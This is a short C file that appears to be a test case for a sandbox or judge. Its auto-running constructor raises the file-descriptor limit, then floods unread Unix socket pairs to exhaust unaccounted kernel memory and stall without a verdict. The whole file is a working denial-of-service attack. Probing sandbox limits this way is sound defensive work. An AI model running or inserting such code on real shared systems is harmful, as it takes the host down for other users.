// ---
// tries: Fills sockets that nobody reads, which take memory of the kernel that no limit of a process counts.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: kernel-memory
// ---
#include <sys/resource.h>
#include <sys/socket.h>

__attribute__((constructor)) static void attack(void) {
  static char block[65536];
  struct rlimit most;
  int pair[2], size = 1 << 22;
  getrlimit(RLIMIT_NOFILE, &most);
  most.rlim_cur = most.rlim_max;
  setrlimit(RLIMIT_NOFILE, &most);
  while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0) {
    for (int i = 0; i < 2; i++) {
      setsockopt(pair[i], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
      while (send(pair[i], block, sizeof block, MSG_NOSIGNAL) > 0) continue;
    }
  }
  for (;;) pause();
}
